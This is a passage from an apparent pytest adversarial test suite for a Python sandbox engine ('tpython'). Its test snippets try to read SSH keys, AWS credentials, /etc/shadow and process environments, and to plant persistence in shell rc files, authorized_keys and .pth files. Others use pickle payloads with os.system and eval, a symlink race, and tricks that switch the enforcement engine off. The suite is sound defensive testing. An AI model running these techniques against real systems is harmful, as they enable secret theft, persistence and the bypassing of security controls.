    "shutil.copytree ~/.aws": "import shutil\ndef go():\n    shutil.copytree(os.path.join(HOME, '.aws'), 'copy')\n    print(open('copy/credentials').read())",
    "os.link (hard link)": "def go():\n    os.link(SECRET_PATH, 'copy')\n    print(open('copy').read())",
    "os.link with src_dir_fd": (
        "def go():\n    fd = os.open(HOME, os.O_RDONLY)\n    os.link('.ssh/id_rsa', 'copy', src_dir_fd=fd)\n"
        "    print(open('copy').read())"),
    "tarfile": "import tarfile\ndef go():\n    with tarfile.open('x.tar', 'w') as t: t.add(SECRET_PATH)\n    print(open('x.tar', 'rb').read())",
    "linecache": "import linecache\ndef go(): print(linecache.getline(SECRET_PATH, 1) or 1/0)",
    "/proc/self/environ": "def go(): print(open('/proc/self/environ', 'rb').read())",
    "/proc/<pid>/environ": "def go(): print(open(f'/proc/{os.getpid()}/environ', 'rb').read())",
    "/proc/thread-self/environ": "def go(): print(open('/proc/thread-self/environ', 'rb').read())",
    "/proc/self/task/<tid>/environ": (
        "import threading\ndef go(): print(open(f'/proc/self/task/{threading.get_native_id()}/environ', 'rb').read())"),
    "/proc/self/mem": "def go(): print(open('/proc/self/mem', 'rb'))",
    "/proc/self/task/<tid>/mem": (
        "import threading\ndef go(): print(open(f'/proc/self/task/{threading.get_native_id()}/mem', 'rb'))"),
    "/proc/thread-self/mem": "def go(): print(open('/proc/thread-self/mem', 'rb'))",
    "/etc/shadow": "def go(): print(open('/etc/shadow').read()[:0] + 'read')",
}


@pytest.mark.parametrize("body", SECRET_CASES.values(), ids=SECRET_CASES.keys())
def test_secrets_denied(tp, body):
    r = run_case(tp, body, env={"TP_ENV_SECRET": "ENVSECRET-77c1"})
    assert SECRET not in r.out and "ENVSECRET-77c1" not in r.out, r.out
    leaked = [p for p in tp.cwd.rglob("*") if p.is_file() and not p.is_symlink() and (tp.cwd / "home") not in p.parents
              and p.name != "audit.jsonl" and SECRET.encode() in p.read_bytes()]
    assert leaked == [], leaked
    assert_denied(r, "strict-secrets")


def test_secrets_symlink_in_tmp_made_beforehand(tp):
    home = _home(tp)
    d = tempfile.mkdtemp(prefix="tpadv", dir="/tmp")
    try:
        os.symlink(home / ".ssh" / "id_rsa", os.path.join(d, "innocent.txt"))
        os.symlink(home, os.path.join(d, "innocent-dir"))
        r = run_case(tp, f"""
        def go():
            for p in ({d + '/innocent.txt'!r}, {d + '/innocent-dir/.ssh/id_rsa'!r}):
                try:
                    print(open(p).read())
                except PolicyViolation as exc:
                    print("DENIED", exc.event, exc.rule)
            raise PermissionError("done")
        """)
        assert SECRET not in r.out, r.out
        assert r.out.count("DENIED open strict-secrets") == 2, r.out
        assert_denied(r, "strict-secrets")
    finally:
        shutil.rmtree(d, ignore_errors=True)


@pytest.mark.xfail(strict=True, reason="documented limit (README Limits): the open event does not carry dir_fd, "
                   "so a name relative to a directory fd is matched against the current directory")
def test_secrets_open_with_dir_fd(tp):
    r = run_case(tp, """
    def go():
        fd = os.open(HOME, os.O_RDONLY)
        print(os.read(os.open('.ssh/id_rsa', os.O_RDONLY, dir_fd=fd), 100))
    """)
    assert SECRET not in r.out, r.out
    assert_denied(r, "strict-secrets")


@pytest.mark.skipif(os.getuid() != 0, reason="chroot needs root")
def test_secrets_after_chroot(tp):
    """After chroot(HOME) the path the kernel resolves and the path the hook matches differ."""
    r = run_case(tp, """
    def go():
        os.chroot(HOME)
        print(open('/.ssh/id_rsa').read())
    """)
    assert SECRET not in r.out, r.out
    assert_denied(r, "strict-secrets")


def test_secrets_symlink_swap_race(tp):
    """TOCTOU: the hook resolves the symlink, then a forked child swaps it before the kernel opens."""
    r = run_case(tp, """
    import time
    def go():
        os.makedirs('fake/.ssh')
        open('fake/.ssh/id_rsa', 'w').write('decoy\\n')
        os.symlink(os.path.abspath('fake'), 'd')     # d -> fake (harmless)
        pid = os.fork()
        if pid == 0:                                 # flip d between fake and HOME
            deadline = time.time() + 6
            while time.time() < deadline:
                try:
                    os.symlink(os.path.abspath('fake'), 'tmp1'); os.replace('tmp1', 'd')
                    os.symlink(HOME, 'tmp2'); os.replace('tmp2', 'd')
                except OSError:
                    pass
            os._exit(0)
        try:
            deadline = time.time() + 5
            while time.time() < deadline:
                try:
                    data = open('d/.ssh/id_rsa').read()
                except (PolicyViolation, OSError):
                    continue
                if 'decoy' not in data:
                    print(data)
                    return
            raise PermissionError('never got through')
        finally:
            os.kill(pid, 9)
            os.waitpid(pid, 0)
    """)
    assert SECRET not in r.out, r.out
    assert_denied(r, "strict-secrets")


# ============================================================================
# strict-persistence
# ============================================================================

@pytest.fixture
def probes():
    """Paths in the real venv / tpython package a failing test might create; removed afterwards."""
    paths = [Path(SITE) / f"{PROBE}.txt", Path(SITE) / f"{PROBE}.pth", Path(sys.prefix) / f"{PROBE}.txt",
             Path(TPYTHON_PKG) / f"{PROBE}.txt", Path(SITE) / "sitecustomize.py.tpadv"]
    for p in paths:
        assert not p.exists(), f"leftover probe {p}"
    yield paths
    for p in paths:
        try:
            p.unlink()
        except FileNotFoundError:
            pass


PERSIST_HOME_CASES = {
    "append ~/.bashrc": "def go(): open(os.path.join(HOME, '.bashrc'), 'a').write('evil\\n')",
    "write ~/.profile": "def go(): open(os.path.join(HOME, '.profile'), 'w').write('evil\\n')",
    "r+ ~/.bashrc": "def go(): open(os.path.join(HOME, '.bashrc'), 'r+').write('evil\\n')",
    "create ~/.zshrc": "def go(): open(os.path.join(HOME, '.zshrc'), 'x').write('evil\\n')",
    "~/.ssh/authorized_keys": "def go(): open(os.path.join(HOME, '.ssh', 'authorized_keys'), 'a').write('evil\\n')",
    "~/.ssh/authorized_keys2": "def go(): open(os.path.join(HOME, '.ssh', 'authorized_keys2'), 'w').write('evil\\n')",
    "~/.config/fish": ("def go():\n    os.makedirs(os.path.join(HOME, '.config', 'fish'))\n"
                       "    open(os.path.join(HOME, '.config', 'fish', 'config.fish'), 'w').write('evil\\n')"),
    "os.open O_CREAT|O_WRONLY": ("def go(): os.write(os.open(os.path.join(HOME, '.bashrc'), "
                                "os.O_CREAT | os.O_WRONLY | os.O_APPEND), b'evil\\n')"),
    "os.open O_RDWR": "def go(): os.write(os.open(os.path.join(HOME, '.bashrc'), os.O_RDWR), b'evil\\n')",
    "pathlib.write_text": "import pathlib\ndef go(): pathlib.Path(HOME, '.profile').write_text('evil\\n')",
    "relative after chdir": "def go():\n    os.chdir(HOME)\n    open('.bashrc', 'a').write('evil\\n')",
    "via symlink to home": ("import tempfile\ndef go():\n    d = tempfile.mkdtemp(dir=os.getcwd())\n    os.symlink(HOME, d + '/h')\n"
                            "    open(d + '/h/.bashrc', 'a').write('evil\\n')"),
    "via /proc/self/fd/<home fd>": ("def go():\n    fd = os.open(HOME, os.O_RDONLY)\n"
                                     "    open(f'/proc/self/fd/{fd}/.bashrc', 'a').write('evil\\n')"),
    "reopen a read fd for writing": ("def go():\n    fd = os.open(os.path.join(HOME, '.bashrc'), os.O_RDONLY)\n"
                                     "    open(f'/proc/self/fd/{fd}', 'a').write('evil\\n')"),
    "os.rename tmp into place": ("def go():\n    open('stage', 'w').write('evil\\n')\n"
                                 "    os.rename('stage', os.path.join(HOME, '.bashrc'))"),
    "os.replace tmp into place": ("def go():\n    open('stage', 'w').write('evil\\n')\n"
                                  "    os.replace('stage', os.path.join(HOME, '.profile'))"),
    "shutil.copy": ("import shutil\ndef go():\n    open('stage', 'w').write('evil\\n')\n"
                    "    shutil.copy('stage', os.path.join(HOME, '.bashrc'))"),
    "shutil.copyfile": ("import shutil\ndef go():\n    open('stage', 'w').write('evil\\n')\n"
                        "    shutil.copyfile('stage', os.path.join(HOME, '.zshrc'))"),
    "shutil.move": ("import shutil\ndef go():\n    open('stage', 'w').write('evil\\n')\n"
                    "    shutil.move('stage', os.path.join(HOME, '.zshrc'))"),
    "os.symlink into place": ("def go():\n    open('stage', 'w').write('evil\\n')\n"
                              "    os.symlink(os.path.abspath('stage'), os.path.join(HOME, '.zshrc'))"),
    "os.link into place": ("def go():\n    open('stage', 'w').write('evil\\n')\n"
                           "    os.link('stage', os.path.join(HOME, '.zshrc'))"),
    "rename staged dir to ~/.config/fish": (
        "def go():\n    os.makedirs('st')\n    open('st/config.fish', 'w').write('evil\\n')\n"
        "    os.makedirs(os.path.join(HOME, '.config'))\n    os.rename('st', os.path.join(HOME, '.config', 'fish'))"),
    "rename staged parent dir to ~/.config": (
        "def go():\n    os.makedirs('st/fish')\n    open('st/fish/config.fish', 'w').write('evil\\n')\n"
        "    os.rename('st', os.path.join(HOME, '.config'))"),
    "rename dir .ssh-staged into ~/.ssh": (
        "import shutil\ndef go():\n    shutil.rmtree(os.path.join(HOME, '.ssh'))\n    os.makedirs('st')\n"
        "    open('st/authorized_keys', 'w').write('evil\\n')\n    os.rename('st', os.path.join(HOME, '.ssh'))"),
}


def _home_unchanged(tp) -> None:
    home = tp.cwd / "home"
    assert (home / ".bashrc").read_text() == ORIGINAL
    assert (home / ".profile").read_text() == ORIGINAL
    assert not (home / ".zshrc").exists() and not (home / ".zshrc").is_symlink()
    assert not (home / ".ssh" / "authorized_keys").exists()
    assert not (home / ".ssh" / "authorized_keys2").exists()
    assert not (home / ".config" / "fish" / "config.fish").exists()


@pytest.mark.parametrize("body", PERSIST_HOME_CASES.values(), ids=PERSIST_HOME_CASES.keys())
def test_persistence_home_denied(tp, body):
    r = run_case(tp, body)
    _home_unchanged(tp)
    assert_denied(r, {"strict-persistence", "strict-secrets"})


@pytest.mark.xfail(strict=True, reason="documented limit (README Limits): the open event does not carry dir_fd")
def test_persistence_open_with_dir_fd(tp):
    r = run_case(tp, """
    def go():
        fd = os.open(HOME, os.O_RDONLY)
        os.write(os.open('.bashrc', os.O_WRONLY | os.O_APPEND, dir_fd=fd), b'evil\\n')
    """)
    _home_unchanged(tp)
    assert_denied(r, "strict-persistence")


PERSIST_ANYWHERE_CASES = {
    "*.pth in a temp dir": "import tempfile\ndef go(): open(os.path.join(tempfile.mkdtemp(dir=os.getcwd()), 'evil.pth'), 'w').write('#')",
    "*.pth renamed from .txt": "def go():\n    open('evil.txt', 'w').write('#')\n    os.rename('evil.txt', 'evil.pth')",
    "sitecustomize.py in cwd": "def go(): open('sitecustomize.py', 'w').write('#')",
    "usercustomize.py in tmp": "import tempfile\ndef go(): open(os.path.join(tempfile.mkdtemp(dir=os.getcwd()), 'usercustomize.py'), 'w').write('#')",
    "sitecustomize.py via pathlib": "import pathlib\ndef go(): pathlib.Path('sub').mkdir(); pathlib.Path('sub/sitecustomize.py').write_text('#')",
    "sitecustomize.py via mkstemp+rename": (
        "import tempfile\ndef go():\n    fd, p = tempfile.mkstemp(dir='.')\n    os.write(fd, b'#')\n    os.close(fd)\n"
        "    os.rename(p, 'sitecustomize.py')"),
    "*.pth via mkstemp suffix": "import tempfile\ndef go(): tempfile.mkstemp(suffix='.pth')",
}


@pytest.mark.parametrize("body", PERSIST_ANYWHERE_CASES.values(), ids=PERSIST_ANYWHERE_CASES.keys())
def test_persistence_startup_files_anywhere_denied(tp, body):
    r = run_case(tp, body)
    made = [p for p in tp.cwd.rglob("*") if p.name.endswith(".pth") or p.name in ("sitecustomize.py", "usercustomize.py")]
    assert made == [], made
    assert_denied(r, "strict-persistence")


INTERPRETER_CASES = {
    "site-packages file": f"def go(): open(os.path.join({SITE!r}, {PROBE + '.txt'!r}), 'w').write('# probe')",
    "site-packages .pth": f"def go(): open(os.path.join({SITE!r}, {PROBE + '.pth'!r}), 'w').write('# probe')",
    "sys.prefix file": f"def go(): open(os.path.join(sys.prefix, {PROBE + '.txt'!r}), 'w').write('# probe')",
    "site-packages via os.rename": (
        f"def go():\n    open('stage', 'w').write('# probe')\n    os.rename('stage', os.path.join({SITE!r}, {PROBE + '.txt'!r}))"),
    "site-packages via shutil.copy": (
        f"import shutil\ndef go():\n    open('stage', 'w').write('# probe')\n"
        f"    shutil.copy('stage', os.path.join({SITE!r}, {PROBE + '.txt'!r}))"),
    "site-packages via os.symlink": (
        f"def go():\n    open('stage', 'w').write('# probe')\n"
        f"    os.symlink(os.path.abspath('stage'), os.path.join({SITE!r}, {PROBE + '.txt'!r}))"),
    "site-packages via relative path": (
        f"def go():\n    os.chdir({SITE!r})\n    open({PROBE + '.txt'!r}, 'w').write('# probe')"),
    "tpython's own package directory": (
        f"import tpython\ndef go(): open(os.path.join(os.path.dirname(tpython.__file__), {PROBE + '.txt'!r}), 'w').write('# probe')"),
}


@pytest.mark.parametrize("body", INTERPRETER_CASES.values(), ids=INTERPRETER_CASES.keys())
def test_persistence_interpreter_files_denied(tp, probes, body):
    r = run_case(tp, body)
    made = [str(p) for p in probes if p.exists() or p.is_symlink()]
    assert made == [], made
    assert_denied(r, "strict-persistence")


# ============================================================================
# strict-pickle
# ============================================================================

PICKLE_HELPERS = '''
import pickle, struct
CODE = "open(MARK, 'w').write('unpickled')"
def u(s):
    b = s.encode()
    return b"X" + struct.pack("<I", len(b)) + b
def stack_global(mod, name, arg):
    """protocol 4: STACK_GLOBAL(mod, name)(arg)"""
    return b"\\x80\\x04" + u(mod) + u(name) + b"\\x93" + u(arg) + b"\\x85R."
def text_global(mod, name, arg):
    """protocol 0: GLOBAL 'mod name' (arg)"""
    return ("c%s\\n%s\\n(V%s\\ntR." % (mod, name, arg)).encode("raw_unicode_escape")
class R:
    def __init__(self, fn, *args): self.fn, self.args = fn, args
    def __reduce__(self): return (self.fn, self.args)
'''

PICKLE_CASES = {
    "os.system proto0 text": "def go(): pickle.loads(text_global('os', 'system', 'touch ' + MARK))",
    "posix.system proto2": "def go(): pickle.loads(pickle.dumps(R(os.system, 'touch ' + MARK), protocol=2))",
    "os.system proto4 stack_global": "def go(): pickle.loads(stack_global('os', 'system', 'touch ' + MARK))",
    "subprocess.Popen proto4": ("import subprocess\ndef go(): pickle.loads(pickle.dumps(R(subprocess.Popen, [TOUCH, MARK]), "
                                "protocol=4))"),
    "builtins.eval proto0 text": "def go(): pickle.loads(text_global('builtins', 'eval', CODE))",
    "builtins.exec proto4": "def go(): pickle.loads(pickle.dumps(R(exec, CODE), protocol=4))",
    "builtins.getattr proto4": "def go(): pickle.loads(stack_global('builtins', 'getattr', 'x'))",
    "builtins.__import__ proto4": "def go(): pickle.loads(stack_global('builtins', '__import__', 'os'))",
    "builtins.open proto4": "def go(): pickle.loads(stack_global('builtins', 'open', MARK))",
    "importlib.import_module": "import importlib\ndef go(): pickle.loads(stack_global('importlib', 'import_module', 'os'))",
    "shutil.rmtree": ("import shutil\nos.makedirs('victim/x', exist_ok=True)\n"
                      "def go(): pickle.loads(stack_global('shutil', 'rmtree', os.path.abspath('victim')))"),
    "socket.socket": "import socket\ndef go(): pickle.loads(pickle.dumps(R(socket.socket), protocol=4))",
    "pure-Python _Unpickler eval": (
        "import io\ndef go(): pickle._Unpickler(io.BytesIO(text_global('builtins', 'eval', CODE))).load()"),
    "pure-Python _Unpickler os.system": (
        "import io\ndef go(): pickle._Unpickler(io.BytesIO(stack_global('posix', 'system', 'touch ' + MARK))).load()"),
    "nested module name os.path": "def go(): pickle.loads(stack_global('os.path', 'os', 'x'))",
    "runpy": "def go(): pickle.loads(stack_global('runpy', 'run_path', 'x.py'))",
    "marshal.loads": "def go(): pickle.loads(stack_global('marshal', 'loads', 'x'))",
}

# Bypasses of the module-name deny-list: each ends with CODE run by exec/eval.
PICKLE_BYPASS_CASES = {
    "__builtin__.eval proto2 (fix_imports maps after the event)": "def go(): pickle.loads(pickle.dumps(R(eval, CODE), protocol=2))",
    "__builtin__.exec proto0 text": "def go(): pickle.loads(text_global('__builtin__', 'exec', CODE))",
    "__builtin__.eval pure-Python _Unpickler": (
        "import io\ndef go(): pickle._Unpickler(io.BytesIO(pickle.dumps(R(eval, CODE), protocol=2))).load()"),
    "dotted name reprlib + builtins.exec (proto4)": "def go(): pickle.loads(stack_global('reprlib', 'builtins.exec', CODE))",
    "timeit.timeit": "def go(): pickle.loads(stack_global('timeit', 'timeit', CODE + '; 1/0'))",
    "io.open (the same object as builtins.open)": "def go(): pickle.loads(pickle.dumps(R(open, MARK, 'w'), protocol=4))",
}


@pytest.mark.parametrize("body", PICKLE_CASES.values(), ids=PICKLE_CASES.keys())
def test_pickle_denied(tp, body):
    r = run_case(tp, PICKLE_HELPERS + textwrap.dedent(body))
    assert not (tp.cwd / "pwned").exists(), r.out
    if (tp.cwd / "victim").exists() or "rmtree" in body:
        assert (tp.cwd / "victim" / "x").is_dir()
    assert_denied(r, "strict-pickle")


@pytest.mark.parametrize("body", PICKLE_BYPASS_CASES.values(), ids=PICKLE_BYPASS_CASES.keys())
def test_pickle_denylist_bypasses(tp, body):
    r = run_case(tp, PICKLE_HELPERS + textwrap.dedent(body))
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, "strict-pickle")


# ============================================================================
# strict-tamper / strict-code-swap
# ============================================================================

TAMPER_CASES = {
    "sys.settrace": ("def tracer(*a):\n    open(MARK, 'w').write('traced')\n    return None\n"
                     "def go():\n    sys.settrace(tracer)\n    (lambda: 1)()"),
    "sys.setprofile": ("def prof(*a):\n    open(MARK, 'w').write('profiled')\n"
                       "def go():\n    sys.setprofile(prof)\n    (lambda: 1)()"),
    "gc.get_objects": "import gc\ndef go(): gc.get_objects()",
    "gc.get_objects(generation)": "import gc\ndef go(): gc.get_objects(2)",
    "gc.get_referrers": "import gc\ndef go(): gc.get_referrers(sys.modules)",
    "gc.get_referents": "import gc\ndef go(): gc.get_referents(sys.modules)",
    "sys._current_frames": "def go(): sys._current_frames()",
    "f.__code__ swap": ("def f(): return 1\ndef g(): open(MARK, 'w').write('swapped')\n"
                        "def go():\n    try:\n        f.__code__ = g.__code__\n    finally:\n        f()"),
    "setattr __code__": ("def f(): return 1\ndef g(): open(MARK, 'w').write('swapped')\n"
                         "def go():\n    try:\n        setattr(f, '__code__', g.__code__)\n    finally:\n        f()"),
    "object.__setattr__ __code__": ("def f(): return 1\ndef g(): open(MARK, 'w').write('swapped')\n"
                                    "def go():\n    try:\n        object.__setattr__(f, '__code__', g.__code__)\n"
                                    "    finally:\n        f()"),
    "_xxsubinterpreters.create": (
        "def go():\n    import _xxsubinterpreters as x\n    i = x.create()\n"
        "    x.run_string(i, f'open({MARK!r}, \"w\").write(\"sub\")')"),
    "cProfile": "import cProfile\ndef go(): cProfile.run('1+1')",
}


@pytest.mark.parametrize("body", TAMPER_CASES.values(), ids=TAMPER_CASES.keys())
def test_tamper_denied(tp, body):
    r = run_case(tp, body)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, {"strict-tamper", "strict-code-swap", "strict-subinterpreters"})


def test_tamper_threading_settrace_then_thread(tp):
    r = run_case(tp, """
    import threading
    def tracer(*a):
        open(MARK, 'w').write('traced')
        return None
    def go():
        threading.settrace(tracer)
        t = threading.Thread(target=lambda: sum(range(3)))
        t.start()
        t.join()
    """)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, "strict-tamper", printed=False)


def test_tamper_interpreters_module_if_present(tp):
    r = run_case(tp, """
    def go():
        try:
            import _interpreters as x
        except ImportError:
            import _xxsubinterpreters as x
        i = x.create()
        x.run_string(i, f'import os; os.system("touch {MARK}")')
    """)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, {"strict-tamper", "strict-subinterpreters"})


# Switching the engine off from inside the program, then a denied action (os.system touch MARK).
FIND_ENGINE_FROM_FRAMES = """
def find_engine():
    f = sys._getframe()
    while f is not None:
        if 'engine' in f.f_locals:
            return f.f_locals['engine']
        f = f.f_back
    raise LookupError('no engine on the stack')
"""
FIND_ENGINE_FROM_META_PATH = """
def find_engine():
    for finder in sys.meta_path:
        for patch in getattr(finder, 'patches', {}).values():
            for cell in patch.__closure__ or ():
                v = cell.cell_contents
                if getattr(v, '__name__', '') in ('internal', 'emit_internal'):
                    return v.__self__
    raise LookupError('no engine via sys.meta_path')
"""

def _tamper(step: str) -> str:
    """GO: try STEP (which may fail: tpython refuses it, or the object is gone), then the
    denied action."""
    return ("def go():\n    try:\n        " + step.replace("\n", "\n        ")
            + "\n    except Exception as exc:\n        print('tamper failed:', type(exc).__name__)\n"
            "    os.system('touch ' + MARK)")


ENGINE_OFF_CASES = {
    "frames: native.set_busy(True)": (FIND_ENGINE_FROM_FRAMES, _tamper("find_engine().native.set_busy(True)")),
    "frames: engine.enforce = False": (FIND_ENGINE_FROM_FRAMES, _tamper("find_engine().enforce = False")),
    "frames: a policy without rules": (
        FIND_ENGINE_FROM_FRAMES,
        _tamper("e = find_engine()\ne.policy = e.policy._replace(rules=(), defaults={'*': 'allow'})\ne.install()")),
    "meta_path closure: install again, allowing all": (
        FIND_ENGINE_FROM_META_PATH,
        _tamper("e = find_engine()\ne.native.install_audit({}, 'allow', [], e.c_options())")),
    "meta_path closure: with engine.internal()": (
        FIND_ENGINE_FROM_META_PATH,
        "def go():\n    with find_engine().internal():\n        os.system('touch ' + MARK)"),
    "sys.modules: patch Engine.emit_internal": (
        "", _tamper("sys.modules['tpython.engine.engine'].Engine.emit_internal = lambda *a, **k: None")),
    "sys.modules: patch native_conditions": (
        "", _tamper("sys.modules['tpython.engine.rules'].native_conditions = lambda *a: None")),
}




@pytest.mark.parametrize("python_sink", [False, True], ids=["jsonl", "jsonl+stderr"])
@pytest.mark.parametrize("name", ENGINE_OFF_CASES)
def test_tamper_switch_engine_off(tp, name, python_sink):
    """With a sink written by Python (stderr here; syslog and journald alike) the native
    engine still decides in C: C hands the Python sinks the records it wrote."""
    helper, body = ENGINE_OFF_CASES[name]
    sinks = ("--log", f"jsonl:{tp.log}", "--log", "stderr") if python_sink else ()
    r = run_case(tp, helper + body, options=sinks)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert_denied(r, "strict-process")


def test_tamper_replace_policyviolation_everywhere_still_blocks_with_the_real_one(tp):
    """Replacing the exception class wherever Python names it changes nothing: C raises its
    own (a static type the program cannot modify)."""
    r = run_case(tp, """
    import tpython, tpython.errors
    def go():
        for module in (tpython, tpython.errors):
            module.PolicyViolation = None
        try:
            os.system('touch ' + MARK)
        except PermissionError as exc:
            print('raised', type(exc).__module__, type(exc).__name__)
            raise
    """)
    assert not (tp.cwd / "pwned").exists(), r.out
    assert "raised tpython.errors PolicyViolation" in r.out, r.out
    assert_denied(r, "strict-process")


def test_tamper_patch_facts_module_then_read_secret(tp):
    """The native engine evaluates `strict-secrets` (a path condition) in C: what the
    program does to tpython.engine.facts changes nothing there."""
    r = run_case(tp, """
    def go():
        sys.modules['tpython.engine.facts'].event_paths = lambda event, args: []
        print(open(SECRET_PATH).read())
    """)
    assert SECRET not in r.out, r.out
    assert_denied(r, "strict-secrets")
